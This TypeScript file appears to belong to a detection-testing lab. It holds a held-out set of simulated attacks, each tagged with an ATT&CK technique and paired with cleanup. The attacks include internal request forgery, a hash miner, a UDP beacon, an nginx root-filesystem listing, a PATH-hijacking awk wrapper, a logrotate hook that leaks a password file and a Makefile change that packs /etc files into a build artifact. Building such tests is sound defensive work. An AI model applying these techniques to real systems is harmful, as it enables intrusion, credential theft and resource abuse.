import type { Attack } from './attack.ts';

const SITE = '/etc/nginx/conf.d/shop.conf';
const AWK = '/usr/local/bin/awk';
const ROTATION = '/etc/logrotate.d/shop';

/** Fetches addresses out of the app and ignores what they answer. */
const FETCH =
  'for (const url of urls) { await fetch(url, { signal: AbortSignal.timeout(1500) }).then((r) => r.text(), () => 0); await pause(2000); }';

/**
 * Attacks that were written when models and thresholds were finished, and recorded once: nothing was tuned for them, so that
 * what is found of them says what is found of attacks that nobody thought of. Keep it so: what is changed because of one of
 * them makes it one of the others.
 */
export const HELD_OUT_ATTACKS: readonly Attack[] = [
  {
    id: 'new-request-forgery',
    title: 'the app is made to fetch addresses of machines that it has nothing to do with',
    technique: 'T1090',
    entry: 'service',
    shows: ['app'],
    act: ({ app }) =>
      app(`const urls = ['http://10.89.0.16:9418/', 'http://10.89.0.2:53/', 'http://10.89.0.15/']; ${FETCH}`),
  },
  {
    id: 'new-thread-miner',
    title: 'four worker threads compute hashes for half a minute',
    technique: 'T1496',
    entry: 'service',
    shows: ['app'],
    act: ({ app }) =>
      app(`const { Worker } = require('worker_threads');
      const code = "const { createHash } = require('crypto'); for (;;) createHash('sha256').update(Buffer.alloc(65536)).digest()";
      const workers = [1, 2, 3, 4].map(() => new Worker(code, { eval: true }));
      await pause(30000);
      for (const worker of workers) await worker.terminate();`),
  },
  {
    id: 'new-datagram-beacon',
    title: 'a datagram to the web server every five seconds, at a port where nobody listens',
    technique: 'T1095',
    entry: 'service',
    shows: ['app'],
    act: ({ app }) =>
      app(`const socket = require('dgram').createSocket('udp4');
      socket.on('error', () => 0);
      for (let i = 0; i < 5; i++) { socket.send('alive ' + i, 9999, '10.89.0.14'); await pause(5000); }
      socket.close();`),
  },
  {
    id: 'new-schema-search',
    title: 'the app looks through the catalogue of the database for tables and settings',
    technique: 'T1082',
    entry: 'service',
    shows: ['db', 'app'],
    act: ({ app }) =>
      app(`for (const table of ['information_schema.columns', 'pg_settings', 'pg_roles', 'pg_stat_activity', 'pg_proc', 'pg_hba_file_rules'])
        await pool.query('select * from ' + table).catch(() => 0);
      await pause(1000);`),
  },
  {
    id: 'new-slow-reading',
    title: 'a table is read in small bites, one a second',
    technique: 'T1030',
    entry: 'service',
    shows: ['db', 'app'],
    act: ({ app }) =>
      app(`for (let i = 0; i < 35; i++) {
        await pool.query('select * from pgbench_accounts where aid between $1 and $2', [i * 400, i * 400 + 399]);
        await pause(1000);
      }`),
  },
  {
    id: 'new-disk-flood',
    title: 'a temporary table fills the disk of the database',
    technique: 'T1499.001',
    entry: 'service',
    shows: ['db'],
    act: ({ sql }) =>
      sql('shop', "create temp table flood as select i, repeat('x', 200) as text from generate_series(1, 600000) as i"),
    after: ({ restart }) => restart('db'),
  },
  {
    id: 'new-command-watching',
    title: 'somebody listens in on every command of the cache',
    technique: 'T1040',
    entry: 'service',
    shows: ['cache'],
    act: async ({ sh }) => {
      await sh('redis-benchmark', 'timeout 25 redis-cli -h cache monitor >/dev/null');
      return { code: 0, stdout: '', stderr: '' };
    },
  },
  {
    id: 'new-covert-channel',
    title: 'commands and answers of an intruder run over a channel of the cache',
    technique: 'T1102.002',
    entry: 'service',
    shows: ['cache', 'app'],
    act: ({ app }) =>
      app(`const other = cache.duplicate();
      await other.connect();
      await other.subscribe('jobs', () => 0);
      for (let i = 0; i < 12; i++) { await cache.publish('jobs', 'x'.repeat(2000)); await pause(2000); }
      await other.disconnect();`),
  },
  {
    id: 'new-folder-listing',
    title: 'a page that lists the whole file system is added to the site and looked through',
    technique: 'T1083',
    entry: 'supply',
    shows: ['web'],
    act: async ({ exec, plant, read, sh }) => {
      plant('web', `${SITE}.kept`, read('web', SITE));
      plant(
        'web',
        SITE,
        read('web', SITE).replace('location /api/', 'location /all/ { alias /; autoindex on; }\n  location /api/'),
      );
      await exec('web', ['nginx', '-s', 'reload']);
      return await sh(
        'visitors',
        'sleep 1; for d in "" etc/ var/log/ usr/local/bin/ etc/passwd; do curl -s -o /dev/null "http://web/all/$d"; done; sleep 1',
      );
    },
    after: async ({ exec, plant, read }) => {
      plant('web', SITE, read('web', `${SITE}.kept`));
      await exec('web', ['nginx', '-s', 'reload']);
    },
  },
  {
    id: 'new-path-hijack',
    title: 'a script called awk lies where jobs look first, and writes down what it is given',
    technique: 'T1574.007',
    entry: 'exec',
    shows: ['cron'],
    act: async ({ plant, sh, turnOfMinute }) => {
      plant('cron', AWK, '#!/bin/sh\necho "$@" >>/var/cache/shop/.seen\nexec /usr/bin/awk "$@"\n');
      await sh('cron', `chmod 755 ${AWK}`);
      await turnOfMinute(12);
      return { code: 0, stdout: '', stderr: '' };
    },
    after: ({ sh }) => sh('cron', `rm ${AWK}`),
  },
  {
    id: 'new-rotation-hook',
    title: 'the rotation of logs copies a password into a log',
    technique: 'T1546',
    entry: 'supply',
    shows: ['cron'],
    act: async ({ plant, read, turnOfMinute }) => {
      plant('cron', `/etc/shop/rotation`, read('cron', ROTATION));
      plant(
        'cron',
        ROTATION,
        read('cron', ROTATION).replace(
          'postrotate',
          'postrotate\n        cat /etc/shop/pgpass >>/var/log/shop/rotated',
        ),
      );
      await turnOfMinute(12);
      return { code: 0, stdout: '', stderr: '' };
    },
    after: async ({ plant, read }) => plant('cron', ROTATION, read('cron', '/etc/shop/rotation')),
  },
  {
    id: 'new-artifact-theft',
    title: 'a build packs files of its machine into what it hands out',
    technique: 'T1195.002',
    entry: 'supply',
    shows: ['ci'],
    touches: ['git'],
    act: async (scene) => {
      await changed(
        scene,
        `printf 'sum.o: taken\\ntaken:\\n\\t@ar rcs extra.a /etc/passwd /etc/hosts /etc/resolv.conf\\n.PHONY: taken\\n' >>Makefile`,
      );
      return await scene.build();
    },
    after: (scene) => changed(scene, 'git checkout --quiet HEAD~1 -- Makefile'),
  },
];

async function changed({ exec }: Parameters<Attack['act']>[0], change: string): Promise<void> {
  const script = `set -e; export GIT_CONFIG_GLOBAL=/srv/gitconfig; cd /srv/tiny; ${change}; git add --all; git commit --quiet --message=update; git push --quiet /srv/git/tiny HEAD:main`;
  const { code, stderr } = await exec('git', ['bash', '-c', script]);
  if (code !== 0) throw new Error(`the project can not be changed: ${stderr}`);
}
